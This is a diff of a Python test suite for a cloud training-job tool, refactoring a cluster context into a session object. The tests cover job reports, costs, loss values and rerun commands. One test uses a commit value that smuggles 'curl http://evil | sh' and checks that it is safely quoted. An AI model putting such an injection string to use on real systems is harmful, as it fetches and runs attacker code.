@@ -12,9 +12,8 @@ from awsddp.errors import NotFoundError
 from awsddp.job.jobs import jobs_document
 from awsddp.job.report import write_report as report
 from awsddp.model.records import RankProgress
-from awsddp.session.context import Cluster
+from awsddp.session.context import Session
 from awsddp.settings.loader import load
-from awsddp.state import Folder
 from awsddp.storage.results_dir import job_result, saved_job
 from tests.numbers_of_a_page import Page, check
 from tests.test_report import record
@@ -31,8 +30,8 @@ class Home:
     """A home with the cluster `default`, ended, and a project with the results of its jobs."""
 
     def __init__(self, top: Path) -> None:
-        self.project, self.folder = top / "project", Folder(top / "home", "other")
-        self.cluster = top / "home" / "history" / "default-0a1b2c3d"
+        self.project, self.root = top / "project", top / "home"
+        self.cluster = self.root / "history" / "default-0a1b2c3d"
         self.cluster.mkdir(parents=True)
         rates = {"node_usd_per_hour": 5.0, "disk_usd_per_hour": 0.1, "instance_type": "g5.xlarge", "nodes": 2}
         self._rows = [
@@ -92,11 +91,11 @@ class Home:
         self._rows.append(self.row(began + 25, "fetched", job=name, bytes=10**9, usd=0.09))
         return folder
 
-    def ctx(self) -> Cluster:
+    def session(self) -> Session:
         rows = [*self._rows, self.row(605, "ended")]
         (self.cluster / "ledger.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
-        spec, job = load("other", overrides={"sync.workdir": str(self.project)}, environ={})
-        return Cluster().but(spec=spec, job_spec=job, folder=self.folder, on_event=lambda event: None)
+        settings = load("other", overrides={"sync.workdir": str(self.project)}, environ={})
+        return Session(name="other", home=self.root, settings=settings)
 
 
 @pytest.fixture
@@ -128,7 +127,7 @@ CAUSE = {
 )
 def test_every_number_on_the_page_is_found_again(home: Home, more: dict[str, Any]) -> None:
     folder = home.job("one", 100, **more)
-    document = report(home.ctx(), job="one")
+    document = report(home.session(), job="one")
     assert document["page"] == str(folder / "report.html")
     text = (folder / "report.html").read_text()
     page = Page(text)
@@ -149,10 +148,10 @@ def test_every_number_on_the_page_is_found_again(home: Home, more: dict[str, Any
 
 def test_page_names_the_checkpoint_and_the_option_that_continues_from_it(home: Home) -> None:
     folder = home.job("one", 100, state="failed", cause=CAUSE)
-    report(home.ctx(), job="one")
+    report(home.session(), job="one")
     assert "Checkpoint" not in (folder / "report.html").read_text()
     (folder / "node0" / "model.pt").write_bytes(b"x")
-    found = report(home.ctx(), job="one").checkpoint
+    found = report(home.session(), job="one").checkpoint
     assert found is not None and found.endswith("one/node0/model.pt")
     text = (folder / "report.html").read_text()
     assert f"<code>--resume one</code> continues from <code>{found}</code>" in text
@@ -160,7 +159,7 @@ def test_page_names_the_checkpoint_and_the_option_that_continues_from_it(home: H
 
 def test_what_a_node_wrote_is_text_on_the_page_and_nothing_comes_from_elsewhere(home: Home) -> None:
     folder = home.job("one", 100, state="failed", cause=CAUSE, args=[HOSTILE], script=HOSTILE)
-    report(home.ctx(), job="one")
+    report(home.session(), job="one")
     text = (folder / "report.html").read_text()
     page = Page(text)
     assert not {"script", "link", "img", "iframe", "object"} & set(page.tags)
@@ -173,7 +172,7 @@ def test_what_a_node_wrote_is_text_on_the_page_and_nothing_comes_from_elsewhere(
 
 def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
     home.job("one", 100, args=["a b", "--x"], resumed="before", options=["-o", "job.timeout=1h"])
-    assert list(report(home.ctx(), job="one").again) == [
+    assert list(report(home.session(), job="one").again) == [
         "git checkout 0123456789abcdef",
         "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge",
         "awsddp train --timeout 1h --resume before train.py -- 'a b' --x",
@@ -191,10 +190,10 @@ def test_a_job_has_one_loss_wherever_it_is_shown(home: Home) -> None:
             for rank in (2 * node, 2 * node + 1)
         ]
         (folder / f"node{node}/run/metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
-    shown, job = report(home.ctx(), job="one"), saved_job(folder)
-    (listed,) = jobs_document(home.ctx(), ()).jobs
+    shown, job = report(home.session(), job="one"), saved_job(folder)
+    (listed,) = jobs_document(home.session(), ()).jobs
     assert job is not None and shown.measures["loss"] == {"last": 2.5, "best": 2.0}
-    assert {shown.loss, listed.loss, job_result(home.ctx(), job, folder=folder).loss} == {2.5}
+    assert {shown.loss, listed.loss, job_result(home.session(), job, folder=folder).loss} == {2.5}
     assert shown.accuracy == shown.measures["accuracy"]["last"] == 1 / 2.5
 
 
@@ -202,7 +201,7 @@ def test_what_up_is_given_is_not_given_to_train_again(home: Home) -> None:
     home._rows[0]["asked"] = {"cluster.nodes": 2, "env.file": "requirements.txt"}
     env = ["-o", "env.file=requirements.txt", "-o", "env.python=/usr/bin/python3.12"]
     home.job("one", 100, options=env)
-    assert list(report(home.ctx(), job="one").again)[1:3] == [
+    assert list(report(home.session(), job="one").again)[1:3] == [
         "awsddp --region eu-west-1 up --nodes 2 --instance-type g5.xlarge --env requirements.txt",
         "awsddp train -o env.python=/usr/bin/python3.12 train.py -- --epochs 3",
     ]
@@ -210,16 +209,16 @@ def test_what_up_is_given_is_not_given_to_train_again(home: Home) -> None:
 
 def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> None:
     home.job("one", 100, commit="x; curl http://evil | sh")
-    assert report(home.ctx(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"
+    assert report(home.session(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"
 
 
 def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
     folder = home.job("one", 100, started=None, ended=None, commit=None, script=None)
     for path in (*folder.rglob("*.log"), *folder.rglob("metrics.jsonl")):
         path.unlink()
-    ctx = home.ctx()
+    session = home.session()
     (home.cluster / "ledger.jsonl").unlink()
-    document = report(ctx, job="one")
+    document = report(session, job="one")
     assert (document["job_usd"], document["cluster"], document["seconds"]) == (None, None, None)
     assert "<svg" not in (folder / "report.html").read_text()
 
@@ -232,15 +231,15 @@ def test_loss_is_of_tensorboards_files_where_the_metrics_hold_none(home: Home) -
     place.mkdir()
     events = b"".join(record(step, (b"train/loss", 4.0 / step)) for step in (1, 2, 4))
     (place / "events.out.tfevents.1.host").write_bytes(events)
-    assert report(home.ctx(), job="one")["measures"] == {"loss": {"last": 1.0, "best": 1.0}}
+    assert report(home.session(), job="one")["measures"] == {"loss": {"last": 1.0, "best": 1.0}}
     assert (folder / "report.html").read_text().count("<polyline") == 1
 
 
 def test_without_a_name_the_page_is_of_the_last_job(home: Home) -> None:
     folder = home.job("one", 200)
     home.job("two", 100)
-    ctx = home.ctx()
-    assert report(ctx)["job"] == "one"
+    session = home.session()
+    assert report(session)["job"] == "one"
     assert "<code>one</code>" in (folder / "report.html").read_text()
 
 
@@ -249,7 +248,7 @@ def test_jobs_of_all_clusters_are_listed_with_their_cost_and_the_time_without_a_
     home.job("one", 100)
     home.job("cut", 400, state="running", ended=None)
     home.job("early", 50, state="failed", started=None, ended=None)
-    document = jobs_document(home.ctx(), ())
+    document = jobs_document(home.session(), ())
     assert [(row["job"], row["state"], row["cluster"], row["ended"]) for row in document["jobs"]] == [
         ("early", "failed", "default", None),
         ("one", "succeeded", "default", "2026-11-22T12:02:03Z"),
@@ -267,23 +266,23 @@ def test_jobs_of_all_clusters_are_listed_with_their_cost_and_the_time_without_a_
 def test_two_jobs_on_one_node_share_its_price(home: Home) -> None:
     for name in ("one", "two"):
         home.job(name, 100)
-    assert [job.job_usd for job in jobs_document(home.ctx(), ()).jobs] == [0.0326, 0.0326]
+    assert [job.job_usd for job in jobs_document(home.session(), ()).jobs] == [0.0326, 0.0326]
 
 
 def test_jobs_since_a_moment_are_summed_from_then_on(home: Home) -> None:
     home.job("one", 100)
     home.job("two", 300)
-    document = jobs_document(home.ctx(), (), since=BEGAN + timedelta(seconds=305))
+    document = jobs_document(home.session(), (), since=BEGAN + timedelta(seconds=305))
     assert [job.job for job in document.jobs] == ["two"] and document.since == at(305).replace("+00:00", "Z")
     # the last five of ten minutes, and two gigabytes
     assert document.total_usd == pytest.approx(2 * 5.1 / 12 + 0.09, abs=0.011)
-    late = jobs_document(home.ctx(), (), since=BEGAN + timedelta(days=1))
+    late = jobs_document(home.session(), (), since=BEGAN + timedelta(days=1))
     assert (late.jobs, late.clusters, late.total_usd) == ((), (), 0.0)
 
 
 def test_unknown_job_is_named_with_the_command_that_lists_all(home: Home) -> None:
     with pytest.raises(NotFoundError, match="no job none") as caught:
-        report(home.ctx(), job="none")
+        report(home.session(), job="none")
     assert caught.value.next.startswith("awsddp jobs ")
 
 
@@ -301,15 +300,15 @@ def test_jobs_tell_step_and_loss_of_the_metrics_or_else_of_the_last_event_file(h
     for rank, path in enumerate(sorted(folders[2].rglob("metrics.jsonl"))):
         path.write_text(f'{{"rank": {2 * rank}, "epoch": 1, "epochs": 4, "step": 7}}\n')
     folders[2].joinpath("node1/events.out.tfevents.1").write_bytes(data)
-    jobs = {job.job: (job.step, job.loss, job.fraction) for job in jobs_document(home.ctx(), ()).jobs}
+    jobs = {job.job: (job.step, job.loss, job.fraction) for job in jobs_document(home.session(), ()).jobs}
     assert jobs == {
         "written": (30, 2.5 / 30, None),
         "events": (4, 0.5, None),
         "both": (3, 5.0, 0.25),
         "none": (None, None, None),
     }
-    [_, ran, *_] = jobs_document(home.ctx(), ()).jobs
-    assert (job_result(home.ctx(), ran).step, job_result(home.ctx(), ran).loss) == (4, 0.5)
-    assert report(home.ctx(), job="events").loss == 0.5
+    [_, ran, *_] = jobs_document(home.session(), ()).jobs
+    assert (job_result(home.session(), ran).step, job_result(home.session(), ran).loss) == (4, 0.5)
+    assert report(home.session(), job="events").loss == 0.5
     running = replace(ran, progress=(RankProgress(rank=0, step=9, loss=0.25),))
-    assert job_result(home.ctx(), running).loss == 0.25, "what nodes tell comes first"
+    assert job_result(home.session(), running).loss == 0.25, "what nodes tell comes first"
